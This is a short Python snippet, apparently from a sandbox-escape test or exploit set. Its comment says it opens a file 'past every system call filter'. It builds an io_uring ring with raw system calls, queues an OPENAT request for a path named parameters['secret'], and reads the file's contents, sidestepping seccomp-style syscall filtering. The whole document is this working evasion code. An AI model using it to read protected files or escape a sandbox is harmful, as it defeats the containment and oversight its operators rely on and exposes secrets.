# A ring opens a file past every system call filter.
SETUP, ENTER, OPENAT = 425, 426, 18
OFF_SQ_RING, OFF_SQES = 0, 0x10000000
settings = ctypes.create_string_buffer(120)
ring = system_call(SETUP, 4, settings)
fields = struct.unpack_from("<30I", settings)
sq_head, sq_tail, sq_mask, sq_entries, sq_flags, sq_dropped, sq_array = fields[10:17]
cq_head, cq_tail, cq_mask, cq_entries, cq_overflow, cq_entry = fields[20:26]
queue = mmap.mmap(ring, max(sq_array + 16, cq_entry + 16 * 8), offset=OFF_SQ_RING)
entries = mmap.mmap(ring, 4 * 64, offset=OFF_SQES)
path = ctypes.create_string_buffer(parameters["secret"].encode())
entries[0:64] = struct.pack("<BBHiQQIIQ24x", OPENAT, 0, 0, -100, 0, ctypes.addressof(path), 0, 0, 7)
queue[sq_array : sq_array + 4] = struct.pack("<I", 0)
queue[sq_tail : sq_tail + 4] = struct.pack("<I", 1)
system_call(ENTER, ring, 1, 1, 1, None, 0)
answer, opened, flags = struct.unpack_from("<Qii", queue[cq_entry : cq_entry + 16])
result = os.pread(opened, 200, 0).decode() if opened >= 0 else f"refused: {opened}"
